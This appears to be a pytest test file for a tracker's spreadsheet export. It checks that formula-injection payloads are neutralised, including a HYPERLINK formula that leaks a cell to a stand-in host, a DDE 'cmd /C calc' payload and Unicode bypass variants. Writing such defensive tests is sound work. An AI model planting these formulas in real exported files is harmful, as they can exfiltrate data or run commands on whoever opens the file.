"""No cell of a download is a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from tracker import spreadsheet


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://a.test?leak="&A1,"x")', '\'=HYPERLINK("https://a.test?leak="&A1,"x")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("−1", "'−1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("|x", "'|x"),
        ("%0A=1", "'%0A=1"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("\tplain", "'\tplain"),
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u200b=1", "'\u200b=1"),
        ("\x00=1", "'\ufffd=1"),
        ("\u202e=1", "'\ufffd=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("﹣1", "'﹣1"),
        ("name;=1+1", "name;'=1+1"),
        ("two\nlines\n=1", "two\nlines\n'=1"),
        ("norvane.com", "norvane.com"),
        ("a-b = c", "a-b = c"),
        ("https://a.test/?q=1&r=-2", "https://a.test/?q=1&r=-2"),
        ("", ""),
        (-0.5, -0.5),
        (-3, -3),
        (True, True),
        (None, ""),
    ],
)
def test_no_cell_is_a_formula(value: object, cell: object) -> None:
    assert spreadsheet.neutral(value) == cell


def test_a_table_reads_back_with_its_numbers_and_without_a_formula() -> None:
    text = spreadsheet.text(("=head", "n"), [("a,=1", -1.5), ('"=2', None)])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["'=head", "n"], ["a,=1", "-1.5"], ['"=2', ""]]


def test_an_empty_table_has_its_heads() -> None:
    assert spreadsheet.text(("a", "b"), []) == "a,b\r\n"
